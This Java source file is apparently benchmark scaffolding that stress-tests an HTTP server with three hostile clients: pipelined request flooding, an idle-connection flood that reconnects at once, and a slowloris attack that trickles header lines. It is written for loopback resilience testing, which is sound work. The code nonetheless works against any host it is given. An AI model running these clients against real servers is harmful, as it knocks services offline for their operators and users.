import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * The hostile clients of bench/http-attack.sh, on plain sockets. Run as a single source file:
 *
 * <pre>
 * java bench/HttpAttack.java pipeline HOST PORT CONNECTIONS BATCHES HOLD_MS
 *     each connection sends BATCHES pipelined GET /ids?count=100000, never reads, closes after HOLD_MS
 * java bench/HttpAttack.java flood HOST PORT CONNECTIONS SECONDS [STOP_FILE]
 *     opens CONNECTIONS idle connections and holds them SECONDS (or until STOP_FILE exists),
 *     opening again each one the server closes; prints how many it closed
 * java bench/HttpAttack.java slowloris HOST PORT CONNECTIONS INTERVAL_MS SECONDS [STOP_FILE]
 *     each connection sends a request line, then one header line every INTERVAL_MS, never the end
 *     of the headers, for SECONDS (or until STOP_FILE exists); prints how many connections the
 *     server closed and after how long
 * </pre>
 *
 * Benchmark scaffolding only: it attacks the address it is given, meant for loopback.
 */
public final class HttpAttack {
  private HttpAttack() {}

  public static void main(String[] args) throws Exception {
    String host = args[1];
    int port = Integer.parseInt(args[2]);
    int connections = Integer.parseInt(args[3]);
    switch (args[0]) {
      case "pipeline" -> pipeline(host, port, connections, Integer.parseInt(args[4]),
          Long.parseLong(args[5]));
      case "flood" -> flood(host, port, connections, Long.parseLong(args[4]), stopFile(args, 5));
      case "slowloris" -> slowloris(host, port, connections, Long.parseLong(args[4]),
          Long.parseLong(args[5]), stopFile(args, 6));
      default -> throw new IllegalArgumentException("pipeline, flood or slowloris: " + args[0]);
    }
  }

  private static Path stopFile(String[] args, int i) {
    return args.length > i ? Path.of(args[i]) : null;
  }

  /** Whether SECONDS from START have passed or the stop file exists. */
  private static boolean over(long start, long seconds, Path stop) {
    return System.nanoTime() - start > seconds * 1_000_000_000L
        || (stop != null && Files.exists(stop));
  }

  private static Socket connect(String host, int port) throws IOException {
    Socket s = new Socket();
    s.connect(new InetSocketAddress(host, port), 30_000);
    return s;
  }

  private static void pipeline(String host, int port, int connections, int batches, long holdMs)
      throws Exception {
    byte[] requests = "GET /ids?count=100000 HTTP/1.1\r\nHost: x\r\n\r\n".repeat(batches)
        .getBytes(StandardCharsets.US_ASCII);
    List<Socket> sockets = new ArrayList<>();
    for (int i = 0; i < connections; i++) {
      Socket s = connect(host, port);
      s.getOutputStream().write(requests);
      s.getOutputStream().flush();
      sockets.add(s);
    }
    Thread.sleep(holdMs);
    for (Socket s : sockets) {
      s.close();
    }
    System.out.println("pipelined " + connections + " x " + batches + " batches, closed");
  }

  /**
   * Holds CONNECTIONS idle connections; each one the server closes is opened again at once, as a
   * flood that means it would.
   */
  private static void flood(String host, int port, int connections, long seconds, Path stop)
      throws Exception {
    long start = System.nanoTime();
    InetSocketAddress address = new InetSocketAddress(host, port);
    Selector selector = Selector.open();
    int failed = 0;
    for (int i = 0; i < connections; i++) {
      failed += open(address, selector) ? 0 : 1;
    }
    System.out.println("flood: " + (connections - failed) + " connected, " + failed + " failed");
    ByteBuffer buffer = ByteBuffer.allocate(4096);
    long reopened = 0;
    while (!over(start, seconds, stop)) {
      selector.select(100);
      for (SelectionKey key : selector.selectedKeys()) {
        SocketChannel channel = (SocketChannel) key.channel();
        int n;
        try {
          buffer.clear();
          n = channel.read(buffer);
        } catch (IOException e) {
          n = -1;
        }
        if (n < 0) {
          key.cancel();
          channel.close();
          reopened++;
          open(address, selector);
        }
      }
      selector.selectedKeys().clear();
    }
    for (SelectionKey key : selector.keys()) {
      key.channel().close();
    }
    selector.close();
    System.out.println("flood: " + reopened + " of " + connections + " closed by the server"
        + " (each opened again at once)");
  }

  private static boolean open(InetSocketAddress address, Selector selector) {
    try {
      SocketChannel channel = SocketChannel.open();
      channel.socket().connect(address, 30_000);
      channel.configureBlocking(false);
      channel.register(selector, SelectionKey.OP_READ);
      return true;
    } catch (IOException e) {
      return false;
    }
  }

  private static void slowloris(
      String host, int port, int connections, long intervalMs, long seconds, Path stop)
      throws Exception {
    List<Socket> sockets = new ArrayList<>();
    long start = System.nanoTime();
    for (int i = 0; i < connections; i++) {
      Socket s = connect(host, port);
      s.getOutputStream().write("GET /id HTTP/1.1\r\nHost: x\r\n".getBytes(StandardCharsets.US_ASCII));
      sockets.add(s);
    }
    long[] cutAfterMs = new long[connections];
    int cut = 0;
    for (int line = 0; !over(start, seconds, stop); line++) {
      Thread.sleep(intervalMs);
      byte[] header = ("X-Slow-" + line + ": 1\r\n").getBytes(StandardCharsets.US_ASCII);
      for (int i = 0; i < connections; i++) {
        Socket s = sockets.get(i);
        if (cutAfterMs[i] != 0) {
          continue;
        }
        try {
          OutputStream out = s.getOutputStream();
          out.write(header);
          out.flush();
        } catch (IOException e) {
          cutAfterMs[i] = (System.nanoTime() - start) / 1_000_000;
          cut++;
        }
      }
    }
    long firstCut = Long.MAX_VALUE;
    long lastCut = 0;
    for (long ms : cutAfterMs) {
      if (ms != 0) {
        firstCut = Math.min(firstCut, ms);
        lastCut = Math.max(lastCut, ms);
      }
    }
    for (Socket s : sockets) {
      s.close();
    }
    System.out.println(
        "slowloris: "
            + cut
            + " of "
            + connections
            + " closed by the server"
            + (cut > 0 ? " (noticed after " + firstCut + ".." + lastCut + " ms)" : ""));
  }
}
